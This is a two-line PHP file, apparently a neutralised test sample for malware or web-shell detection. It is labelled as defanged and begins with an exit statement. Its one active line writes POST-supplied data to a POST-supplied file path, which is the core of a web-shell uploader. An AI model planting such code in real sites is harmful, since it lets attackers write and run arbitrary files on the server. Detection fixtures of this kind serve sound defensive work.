<?php exit; /* DEFANGED TEST SAMPLE: writes request data to disk */
file_put_contents($_POST['n'], $_POST['data']);
